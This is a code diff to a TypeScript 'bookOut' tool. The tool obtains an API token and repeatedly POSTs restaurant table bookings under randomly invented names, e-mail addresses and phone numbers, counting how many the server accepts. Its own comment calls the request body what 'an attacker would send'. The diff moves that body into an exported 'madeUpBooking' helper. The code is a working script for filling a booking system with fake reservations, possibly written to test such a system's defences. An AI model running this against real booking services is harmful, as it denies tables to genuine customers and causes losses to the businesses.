@@ -27,7 +27,25 @@ export interface BookOutResult {
   times: string[];
 }
 
-const madeUp = () => randomBytes(4).toString('hex');
+/** A create body for two at `time` under a made-up name, e-mail and phone (as an attacker would send it). */
+export function madeUpBooking(storeId: string, date: string, time: string) {
+  const who = randomBytes(4).toString('hex');
+  return {
+    restaurantId: storeId,
+    firstName: `Guest${who}`,
+    lastName: `Made${who}`,
+    emailAddress: `diner.${who}@example.com`,
+    mobilePhoneNumber: `077009${String(Math.floor(Math.random() * 100_000)).padStart(5, '0')}`,
+    diningDateTime: `${date} ${time}`,
+    bookingTime: time,
+    adultCovers: 2,
+    childCovers: 0,
+    menuIds: ['bm-a-la-carte'],
+    shouldReceivePromotions: false,
+    shouldReceiveSms: false,
+    occasionId: 'standard',
+  };
+}
 
 export async function bookOut(o: BookOutOptions): Promise<BookOutResult> {
   const tokenRes = await fetch(`${o.url}/api/token`, {
@@ -58,25 +76,10 @@ export async function bookOut(o: BookOutOptions): Promise<BookOutResult> {
   const result: BookOutResult = { made: 0, refused: {}, times };
   for (let i = 0; i < o.attempts; i++) {
     const time = times[i % times.length] as string;
-    const who = madeUp();
     const res = await fetch(`${o.url}/api/booking/create/${o.storeId}`, {
       method: 'POST',
       headers,
-      body: JSON.stringify({
-        restaurantId: o.storeId,
-        firstName: `Guest${who}`,
-        lastName: `Made${who}`,
-        emailAddress: `diner.${who}@example.com`,
-        mobilePhoneNumber: `07700${String(900000 + Math.floor(Math.random() * 99999)).slice(0, 6)}`,
-        diningDateTime: `${o.date} ${time}`,
-        bookingTime: time,
-        adultCovers: 2,
-        childCovers: 0,
-        menuIds: ['bm-a-la-carte'],
-        shouldReceivePromotions: false,
-        shouldReceiveSms: false,
-        occasionId: 'standard',
-      }),
+      body: JSON.stringify(madeUpBooking(o.storeId, o.date, time)),
     });
     if (res.ok) {
       result.made++;
